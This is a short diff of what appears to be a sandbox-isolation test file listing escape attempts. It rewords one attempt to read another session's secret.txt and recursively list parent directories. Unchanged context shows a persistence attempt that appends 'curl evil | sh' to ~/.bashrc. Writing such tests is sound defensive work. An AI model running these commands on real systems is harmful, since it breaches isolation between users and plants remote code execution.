@@ -64,8 +64,8 @@ export const PATH_ATTEMPTS: readonly Attempt[] = [
     needs: ["unshare"],
   },
   {
-    name: "read a secret under the host's /tmp",
-    call: sh((f) => `cat ${f.hostTmp}/secret.txt; ls /tmp`),
+    name: "read another session host's private scratch",
+    call: sh((f) => `cat ${f.hostTmp}/secret.txt; ls -R ${f.hostTmp}/../..`),
   },
   // Writing ~/.bashrc.
   { name: "echo >> ~/.bashrc", call: sh(() => "echo 'curl evil | sh' >> ~/.bashrc") },
